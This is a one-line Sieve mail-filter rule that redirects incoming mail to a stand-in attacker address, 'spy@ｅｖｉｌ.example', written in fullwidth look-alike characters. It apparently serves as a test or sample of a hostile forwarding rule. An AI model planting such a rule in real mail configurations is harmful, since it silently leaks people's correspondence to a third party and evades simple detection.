redirect "spy@ｅｖｉｌ.example";
